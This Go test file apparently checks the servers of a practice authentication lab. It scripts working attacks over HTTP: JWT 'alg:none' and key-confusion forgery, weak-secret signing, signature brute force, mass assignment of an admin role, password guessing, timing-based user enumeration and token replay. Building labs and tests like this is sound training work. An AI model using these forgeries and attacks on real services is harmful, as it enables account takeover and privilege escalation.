package main

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"example.com/authbook/internal/attack"
	"github.com/stretchr/testify/require"
)

// attacker breaks into a server as a learner does, over HTTP.
type attacker struct {
	t     *testing.T
	base  string
	world attack.World
}

// scripts are the attacks by name. Each returns the last answer, which holds the
// flag where the server has the flaw.
func scripts() map[string]func(attacker) string {
	sendKnown := func(name string) func(attacker) string {
		return func(a attacker) string { return a.me(a.known(name)) }
	}
	return map[string]func(attacker) string{
		"one-byte":          attacker.oneByte,
		"key-confusion":     attacker.keyConfusion,
		"kid":               func(a attacker) string { return a.me(a.forge(`{"alg":"HS256","kid":"x"}`, nil)) },
		"none":              func(a attacker) string { return a.me(a.forge(`{"alg":"none"}`, nil)) },
		"pictures":          sendKnown("pictures-token"),
		"no-exp":            sendKnown("old-token"),
		"unpinned":          func(a attacker) string { return a.me(a.forge(`{"alg":"HS256"}`, []byte("secret"))) },
		"logged-out":        sendKnown("ended-token"),
		"refresh-as-access": sendKnown("spent-cookie"),
		"replayed":          func(a attacker) string { return a.refreshAndMe("spent-cookie") },
		"log-out":           func(a attacker) string { return a.refreshAndMe("ended-cookie") },
		"truncated":         func(a attacker) string { return a.logInAndMe(a.known("photo")) },
		"mass-assignment":   attacker.massAssignment,
		"guess":             attacker.guess,
		"who-is-here":       attacker.whoIsHere,
		"any-password":      func(a attacker) string { return a.logInAndMe("x") },
	}
}

func (a attacker) oneByte() (body string) {
	token := a.forge(`{"alg":"HS256"}`, nil)
	input := token[:strings.LastIndexByte(token, '.')+1]
	for b := range 256 {
		if body = a.me(input + b64([]byte{byte(b)})); strings.Contains(body, a.world.Flag) {
			return body
		}
	}
	return body
}

func (a attacker) keyConfusion() string {
	return a.me(a.forge(`{"alg":"HS256","typ":"JWT"}`, []byte(a.known("public.pem")+"\n")))
}

func (a attacker) massAssignment() string {
	const body = `{"username":"eve","password":"open-sesame-12","nickname":"Eve"`
	_, answer := a.send("POST", "/signup", "", body+`,"roles":["ADMIN"]}`)
	if strings.Contains(answer, "VALIDATION_FAILED") {
		a.send("POST", "/signup", "", body+"}")
	}
	_, answer = a.send("POST", "/login", "", `{"username":"eve","password":"open-sesame-12"}`)
	_, answer = a.send("GET", "/admin/flag", tokenIn(answer), "")
	return answer
}

func (a attacker) guess() string {
	for password := range strings.SplitSeq(a.known("passwords"), "\n") {
		if _, answer := a.logIn(a.world.Victim.Username, password); tokenIn(answer) != "" {
			return a.me(tokenIn(answer))
		}
	}
	return ""
}

// whoIsHere returns the name that takes far longer than all others, if one does.
func (a attacker) whoIsHere() string {
	best := map[string]time.Duration{}
	for range 3 { // of several tries the quickest has met nobody else on this machine
		for name := range strings.SplitSeq(a.known("names"), "\n") {
			start := time.Now()
			a.logIn(name, "x")
			if took := time.Since(start); best[name] == 0 || took < best[name] {
				best[name] = took
			}
		}
	}
	names := slices.SortedFunc(maps.Keys(best), func(x, y string) int { return int(best[y] - best[x]) })
	if best[names[0]] < 3*best[names[1]] {
		return ""
	}
	return names[0]
}

func (a attacker) refreshAndMe(name string) string {
	r, err := http.NewRequestWithContext(a.t.Context(), "POST", a.base+"/refresh", nil)
	require.NoError(a.t, err)
	r.AddCookie(&http.Cookie{Name: "refresh", Value: a.known(name)})
	_, answer := a.do(r)
	return a.me(tokenIn(answer))
}

func (a attacker) logInAndMe(password string) string {
	_, answer := a.logIn(a.world.Victim.Username, password)
	return a.me(tokenIn(answer))
}

func (a attacker) logIn(name, password string) (status int, answer string) {
	return a.send("POST", "/login", "", fmt.Sprintf(`{"username":%q,"password":%q}`, name, password))
}

func (a attacker) me(token string) string {
	_, answer := a.send("GET", "/me", token, "")
	return answer
}

func (a attacker) known(name string) string {
	status, text := a.send("GET", "/known/"+name, "", "")
	require.Equal(a.t, 200, status, "known/%s: %s", name, text)
	return strings.TrimSuffix(text, "\n")
}

// forge writes a token of the victim, from one's own and the two ids.
func (a attacker) forge(header string, secret []byte) string {
	payload, err := base64.RawURLEncoding.DecodeString(strings.Split(a.known("token"), ".")[1])
	require.NoError(a.t, err)
	claims := map[string]any{}
	require.NoError(a.t, json.Unmarshal(payload, &claims))
	require.NoError(a.t, json.Unmarshal([]byte(a.known("victim")), &claims))
	for _, date := range []string{"iat", "exp"} {
		claims[date] = int64(claims[date].(float64))
	}
	payload, err = json.Marshal(claims)
	require.NoError(a.t, err)
	input := b64([]byte(header)) + "." + b64(payload)
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(input))
	return input + "." + b64(mac.Sum(nil))
}

func (a attacker) send(method, path, token, body string) (status int, answer string) {
	r, err := http.NewRequestWithContext(a.t.Context(), method, a.base+path, strings.NewReader(body))
	require.NoError(a.t, err)
	r.Header.Set("Content-Type", "application/json")
	if token != "" {
		r.Header.Set("Authorization", "Bearer "+token)
	}
	return a.do(r)
}

// do holds that every answer says what this server is.
func (a attacker) do(r *http.Request) (status int, answer string) {
	response, err := http.DefaultClient.Do(r)
	require.NoError(a.t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	require.NoError(a.t, err)
	require.Equal(a.t, a.world.Says, response.Header.Get("X-Practice-Server"), r.URL.Path)
	if strings.HasPrefix(string(body), "{") && !strings.HasPrefix(r.URL.Path, "/known/") {
		require.Contains(a.t, string(body), a.world.Says, r.URL.Path)
	}
	return response.StatusCode, string(body)
}

func tokenIn(answer string) string {
	var body struct{ Token string }
	_ = json.Unmarshal([]byte(answer), &body)
	return body.Token
}

func b64(data []byte) string { return base64.RawURLEncoding.EncodeToString(data) }
